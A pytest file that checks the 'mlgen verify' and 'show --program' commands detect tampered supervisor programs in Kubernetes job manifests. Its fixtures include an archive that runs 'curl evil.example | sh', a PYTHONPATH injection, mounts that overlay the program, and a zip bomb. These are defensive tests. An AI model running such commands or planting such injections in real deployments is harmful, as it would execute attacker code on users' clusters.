"""`mlgen verify` and `mlgen show --program` on programs of mlgen, and on others in their place."""

import re
import subprocess
import zipfile
from base64 import b64decode, b64encode
from functools import cache
from hashlib import sha256
from io import BytesIO

import pytest
from click.testing import CliRunner
from support import ROOT, rendered

from mlgen.cli import main
from mlgen.kubernetes.versions import KubeVersion

OURS = "the program of mlgen 0.2.0"


def run(*arguments, stdin):
    result = CliRunner().invoke(main, arguments, input=stdin, catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@cache
def manifests(fixture="tensorflow-ps", **options):
    return rendered(ROOT / f"fixtures/{fixture}.yaml", **options)


def encoded(text):
    return re.search(r"supervisor\.pyz: '?([\w+/=]+)", text)[1]


def with_program(text, content):
    """Manifests with another archive and the annotation that fits to it."""
    text = text.replace(encoded(text), b64encode(content).decode())
    return re.sub(r"@sha256:\w+", f"@sha256:{sha256(content).hexdigest()}", text)


def archive(files):
    content = BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as file:
        for name, text in files.items():
            file.writestr(name, text)
    return content.getvalue()


EVIL = archive({"__main__.py": "import os; os.system('curl evil.example | sh')\n"})
IN_PLACE = {
    "settings": ((("spec", "runPolicy", "restartMode"), "InPlace"),),
    "kube_version": KubeVersion(1, 36),
}
FIXTURES = {
    "several-roles": ("tensorflow-ps", {}),
    "gang": ("pytorch-restart-all", {}),
    "progress": ("pytorch-progress", {}),
    "in-place": ("pytorch-restart-all", IN_PLACE),
}


@pytest.mark.parametrize("case", FIXTURES)
def test_the_program_of_this_mlgen_is_known(case):
    name, options = FIXTURES[case]
    version = str(options.get("kube_version", "1.34"))
    text = manifests(name, **options)

    status, out, err = run("verify", "--only-jobs", "--kube-version", version, "-", stdin=text)

    assert (0, "") == (status, err)
    assert out.endswith(f", {OURS}\n")


def test_an_overlay_changes_names_and_not_the_program():
    text = manifests().replace("mnist", "dev-mnist")

    assert run("verify", "-", stdin=text)[1].endswith(f", {OURS}\n")


@pytest.mark.parametrize("form", [("--no-workflow",), ()])
def test_the_program_of_a_workflow_s_step_is_known(form):
    text = run("argo", *form, "-", stdin=(ROOT / "fixtures/tensorflow-ps.yaml").read_text())[1]

    assert (0, f"mnist.manifests: verified, {OURS}\n", "") == run("verify", "-", stdin=text)


def test_another_program_under_the_same_name_is_reported():
    text = with_program(manifests(), EVIL)

    status, out, _ = run("verify", "-", stdin=text)
    assert (0, 1) == (status, out.count("[unknown-program]"))
    assert f"warning: mnist: ConfigMap mnist.supervisor: supervisor.pyz is not {OURS}" in out
    assert f", {OURS}\n" not in out

    status, out, _ = run("verify", "--only-jobs", "-", stdin=text)
    assert (1, 1) == (status, out.count("[unknown-program]"))
    assert "warning" not in out


def test_another_program_of_a_workflow_s_step_is_reported():
    job = (ROOT / "fixtures/tensorflow-ps.yaml").read_text()
    text = with_program(run("argo", "-", stdin=job)[1], EVIL)

    assert "[unknown-program]" in run("verify", "-", stdin=text)[1]


STARTS = {
    "the-file-has-another-key": ("  supervisor.pyz: '", "  supervisor.py: '"),
    "a-text": ("binaryData:\n  supervisor.pyz: '", "  supervisor.pyz: '"),
    "another-command": ("[python3, /mlgen/supervisor.pyz]", "[python3, -c, pass]"),
    "arguments": (
        "command: [python3, /mlgen/supervisor.pyz]",
        "command: [python3, /mlgen/supervisor.pyz]\n        args: [a]",
    ),
    "a-probe": (
        "command: [python3, /mlgen/supervisor.pyz]",
        "command: [python3, /mlgen/supervisor.pyz]\n        startupProbe: {exec: {command: [a]}}",
    ),
    "variables-of-another-object": (
        "command: [python3, /mlgen/supervisor.pyz]",
        "command: [python3, /mlgen/supervisor.pyz]\n        envFrom: [{secretRef: {name: a}}]",
    ),
    "a-variable-of-python": (
        "        - name: MLGEN_RUN",
        "        - {name: PYTHONPATH, value: /evil}\n        - name: MLGEN_RUN",
    ),
    "another-container": ("- name: supervisor\n", "- name: program\n"),
    "another-volume": ("configMap: {name: mnist.supervisor}", "configMap: {name: mnist.config}"),
    "other-items": (
        "configMap: {name: mnist.supervisor}",
        "configMap: {name: mnist.supervisor, items: [{key: plan.json, path: supervisor.pyz}]}",
    ),
    "a-path-in-the-volume": (
        "- {name: supervisor, mountPath: /mlgen}",
        "- {name: supervisor, mountPath: /mlgen, subPath: a}",
    ),
    "a-file-over-the-file": (
        "        - {name: supervisor, mountPath: /mlgen}\n",
        """\
        - {name: supervisor, mountPath: /mlgen}
        - {name: supervisor, mountPath: /mlgen/supervisor.pyz, subPath: plan.json}
""",
    ),
}


@pytest.mark.parametrize("case", STARTS)
def test_another_start_of_the_program_is_reported(case):
    old, new = STARTS[case]
    text = manifests()
    assert old in text

    status, out, _ = run("verify", "--only-jobs", "-", stdin=text.replace(old, new))

    assert (1, True) == (status, "[unknown-program]" in out)


def test_harmless_changes_of_an_overlay_are_not_reported():
    text = manifests().replace(
        "        - name: MLGEN_RUN",
        "        - {name: PYTHONUNBUFFERED, value: '1'}\n        - name: MLGEN_RUN",
    )
    text = text.replace(
        "        command: [python3, /mlgen/supervisor.pyz]",
        "        imagePullPolicy: Always\n        command: [python3, /mlgen/supervisor.pyz]",
    )

    status, out, err = run("verify", "--only-jobs", "-", stdin=text)

    assert (0, "") == (status, err)
    assert out.endswith(f", {OURS}\n")


@pytest.mark.parametrize(
    "item",
    [
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: a}\n",
        "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: a-}\n",
        "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {name: a}\n",
        "kind: 1\n",
    ],
)
def test_objects_of_no_job_are_errors_with_only_jobs(item):
    text = f"{manifests()}---\n{item}"

    assert 1 == run("verify", "--only-jobs", "-", stdin=text)[1].count("[foreign-object]")


def test_the_image_of_a_site_is_not_reported():
    text = manifests("pytorch-supervisor-image")

    status, out, err = run("verify", "--only-jobs", "-", stdin=text)

    assert (0, "") == (status, err)
    assert OURS not in out


def test_the_source_of_the_program_is_shown():
    text = manifests("pytorch-restart-all", **IN_PLACE)

    status, out, err = run("show", "--program", "-", stdin=text)

    digest = sha256(b64decode(encoded(text))).hexdigest()
    assert (0, "") == (status, err)
    assert out.startswith(f"# ConfigMap ddp.supervisor: supervisor.pyz, sha256:{digest}: {OURS}\n")
    headings = re.findall(r"^# (mlgen/runtime/\w+\.py)$", out, re.MULTILINE)
    assert {"mlgen/runtime/supervise.py", "mlgen/runtime/in_place.py"} <= set(headings)
    assert "mlgen/runtime/reports.py" not in headings
    assert "def advance(plan: Plan, seen: Seen, state: State, now: float) -> State:\n" in out


@pytest.mark.needs("unzip")
def test_unzip_alone_shows_the_source(tmp_path):
    file = tmp_path / "supervisor.pyz"
    file.write_bytes(b64decode(encoded(manifests())))

    shown = subprocess.run(["unzip", "-p", file, "source"], check=True, capture_output=True)

    assert b"\fmlgen/runtime/decide.py\n" in shown.stdout


def test_every_file_of_another_program_is_shown():
    files = {"__main__.py": "import evil\n", "evil.py": "print('\x1b[2J')\n"}
    text = with_program(manifests(), archive(files))

    status, out, _ = run("show", "--program", "-", stdin=text)

    assert (0, True) == (status, f": not {OURS}\n" in out)
    assert out.endswith("# __main__.py\nimport evil\n\n# evil.py\nprint('\\x1b[2J')\n")


REFUSED = {
    "no-archive": lambda text: with_program(text, b"PK"),
    "a-bomb": lambda text: with_program(text, archive({"source": "0" * (5 << 20)})),
    "no-base64": lambda text: text.replace("supervisor.pyz: 'UEsD", "supervisor.pyz: '!!!!"),
    "a-text": lambda text: text.replace("binaryData:\n  supervisor.pyz: '", "  supervisor.pyz: '"),
    "a-number": lambda text: text.replace("supervisor.pyz: 'UEsD", "supervisor.pyz: 1 # '"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_no_archive_is_refused(case):
    status, out, err = run("show", "--program", "-", stdin=REFUSED[case](manifests()))

    assert (2, "") == (status, out)
    assert "ConfigMap mnist.supervisor: supervisor.pyz is not an archive of mlgen" in err


def test_a_job_file_has_no_program_before_it_is_rendered():
    job = (ROOT / "fixtures/tensorflow-ps.yaml").read_text()

    status, _, err = run("show", "--program", "-", stdin=job)

    assert (2, True) == (status, "pass manifests: mlgen render job.yaml" in err)
